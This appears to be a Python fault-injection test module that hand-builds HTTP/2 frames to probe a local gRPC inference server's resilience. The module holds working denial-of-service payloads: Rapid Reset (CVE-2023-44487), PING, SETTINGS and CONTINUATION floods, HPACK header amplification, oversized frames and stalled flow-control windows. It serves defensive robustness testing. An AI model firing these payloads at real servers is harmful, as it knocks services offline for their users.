"""HTTP/2 as no gRPC library speaks it: frames by hand at the gRPC port."""

from __future__ import annotations

import re
import socket
import struct
import time
from contextlib import suppress
from functools import partial

from judge_client.wire import GenerateRequest, infer_request
from tests.faults.attack import attack
from tests.faults.bench import slots
from tests.triton_world import Serving, wait_for

GROUP = "http2"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    *(0, 1, 3, 4, 6, 7, 8, 9),
)
END_STREAM, END_HEADERS = 1, 4
STATUS = re.compile(rb"grpc-status.([0-9]+)", re.S)
PATH = b"/inference.GRPCInferenceService/ModelStreamInfer"
LONG = GenerateRequest("Frames", max_tokens=150, ignore_eos=True)


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + payload
    )


def header(name: bytes, value: bytes) -> bytes:
    """A literal header field that the receiver does not remember (RFC 7541, 6.2.2)."""
    return b"\0" + _string(name) + _string(value)


def _string(value: bytes) -> bytes:
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, size = len(value) - 127, [127]
    while rest >= 128:
        size.append(rest % 128 + 128)
        rest //= 128
    return bytes([*size, rest]) + value


def head(path: bytes = PATH) -> bytes:
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"a")]
    fields += [(b"te", b"trailers"), (b"content-type", b"application/grpc")]
    return b"".join(header(name, value) for name, value in fields)


def call(stream: int = 1, request: GenerateRequest = LONG) -> bytes:
    """The frames of a generation."""
    body = infer_request(request, "", stream=True).SerializeToString()
    return frame(HEADERS, END_HEADERS, stream, head()) + frame(
        DATA, END_STREAM, stream, b"\0" + struct.pack(">I", len(body)) + body
    )


class Connection:
    """A TCP connection that has said hello."""

    def __init__(self, server: Serving, settings: bytes = b"") -> None:
        self.socket = socket.create_connection(("127.0.0.1", server.ports[1]), 20)
        self.send(PREFACE + frame(SETTINGS, payload=settings))

    def __enter__(self) -> Connection:
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()

    def send(self, data: bytes) -> None:
        with suppress(ConnectionError):  # the server may have closed already
            self.socket.sendall(data)

    def end(self, limit_s: float = 1.5) -> str:
        """What the server says until it closes: a call's status, the error codes of RST_STREAM and
        GOAWAY, and whether it has closed."""
        self.socket.settimeout(limit_s)
        data, found, closed = b"", list[str](), "closed"
        with suppress(ConnectionError):
            try:
                while chunk := self.socket.recv(65536):
                    data += chunk
                    while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
                        size, kind = int.from_bytes(data[:3], "big"), data[3]
                        payload, data = data[9 : 9 + size], data[9 + size :]
                        if kind == HEADERS and (status := STATUS.search(payload)):
                            found.append(f"status {status[1].decode()}")
                        if kind == GOAWAY:
                            found.append(f"GOAWAY {int.from_bytes(payload[4:8], 'big')}")
                        if kind == RST_STREAM:
                            found.append(f"RST_STREAM {int.from_bytes(payload, 'big')}")
            except TimeoutError:
                closed = "left open"
        return ", ".join([*found, closed])

    def text(self) -> None:
        """Waits for the first frame with data."""
        self.socket.settimeout(60)
        data = b""
        while True:
            data += self.socket.recv(65536)
            while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
                if data[3] == DATA:
                    return
                data = data[9 + int.from_bytes(data[:3], "big") :]


def frames(data: bytes, server: Serving) -> str:
    with Connection(server) as made:
        made.send(data)
        return made.end()


def half_open(server: Serving) -> str:
    """200 calls whose body never comes, on 20 connections; they stay until others were served."""
    made = [Connection(server) for _ in range(20)]
    for one in made:
        one.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, head()) for i in range(10)))
        one.send(frame(DATA, 0, 1, b"\0\0\0\1\0half"))
    time.sleep(0.3)
    for one in made:
        one.socket.close()
    return "nothing"


def leaves(last: bytes, server: Serving) -> str:
    """A stream that the client ends with this frame; its answer must not keep the slot."""
    with Connection(server) as made:
        made.send(call())
        made.text()
        made.send(last)
        time.sleep(0.1)
    wait_for(lambda: slots(server) <= 1, "the slot")  # the canary has the other
    return "it has gone"


def no_window(server: Serving) -> str:
    """The client allows the server no byte of data, and never will."""
    with Connection(server, struct.pack(">HI", 4, 0)) as made:
        made.send(call())
        wait_for(lambda: slots(server) == 2, "the stream")
        wait_for(lambda: slots(server) <= 1, "the slot, although nobody reads")
    return "nothing"


def rapid_reset(server: Serving) -> str:
    """Begins and resets 2,000 calls without waiting (CVE-2023-44487)."""
    with Connection(server) as made:
        for i in range(2000):
            stream = 2 * i + 1
            made.send(
                frame(HEADERS, END_HEADERS, stream, head())
                + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            )
        made.socket.settimeout(0.2)
        with suppress(OSError):
            made.socket.recv(65536)
    return "it has gone"


BLOCK = header(b"x", b"a" * 60)
ROWS = {
    "PING x 20,000": ("GOAWAY 11, closed", frame(PING, payload=bytes(8)) * 20_000),
    "SETTINGS x 5,000": ("left open", frame(SETTINGS) * 5000),
    "a frame of 16 MB": (
        "closed",
        b"\xff\xff\xff" + bytes([DATA, 0]) + struct.pack(">I", 1) + bytes(10**6),
    ),
    "CONTINUATION x 5,000 without an end": (
        "left open",
        frame(HEADERS, 0, 1, head()) + frame(CONTINUATION, 0, 1, BLOCK * 20) * 5000,
    ),
    "a header block of 1 MB": (
        "left open",
        frame(HEADERS, 0, 1, head())
        + b"".join(
            frame(CONTINUATION, END_HEADERS if i == 69 else 0, 1, piece)
            for i in range(70)
            for piece in [header(b"x", b"a" * 10**6)[i * 15_000 : (i + 1) * 15_000]]
        ),
    ),
    "a header that is referred to 16,000 times": (
        "status 8, RST_STREAM 0...",
        frame(
            HEADERS,
            END_HEADERS | END_STREAM,
            1,
            head() + b"\x40" + _string(b"x") + _string(b"a" * 4000) + b"\xbe" * 12_000,
        ),
    ),
    "a window that overflows": (
        "left open",
        frame(WINDOW_UPDATE, payload=struct.pack(">I", 2**31 - 1)) * 2,
    ),
    "data for a stream that never began": ("left open", frame(DATA, 0, 1, b"abc")),
    "a stream with an even number": ("left open", frame(HEADERS, END_HEADERS, 2, head())),
    "an unknown method": (
        "status 12, left open",
        frame(HEADERS, END_HEADERS | END_STREAM, 1, head(b"/inference.GRPCInferenceService/Shut")),
    ),
    "a message of 4 GB, announced": (
        "left open",
        frame(HEADERS, END_HEADERS, 1, head()) + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff{}"),
    ),
    "a message that is no protobuf": (
        "status 0, left open",
        frame(HEADERS, END_HEADERS, 1, head())
        + frame(DATA, END_STREAM, 1, b"\0\0\0\0\x05\xff\xff\xff\xff\xff"),
    ),
}

FAULTS = [
    *(attack(GROUP, name, sees, partial(frames, data)) for name, (sees, data) in ROWS.items()),
    attack(GROUP, "200 calls whose body never comes", "nothing", half_open),
    attack(
        GROUP,
        "GOAWAY in a stream",
        "it has gone",
        partial(leaves, frame(GOAWAY, payload=bytes(8))),
        server="goes on; its answer runs to its end",
    ),
    attack(
        GROUP,
        "RST_STREAM in a stream",
        "it has gone",
        partial(leaves, frame(RST_STREAM, 0, 1, struct.pack(">I", 8))),
        server="goes on; its answer runs to its end",
    ),
    attack(
        GROUP,
        "a window of 0 bytes for ever",
        "nothing",
        no_window,
        server="goes on; its answer runs to its end",
    ),
    attack(GROUP, "2,000 calls begun and reset at once", "it has gone", rapid_reset, quick=True),
]
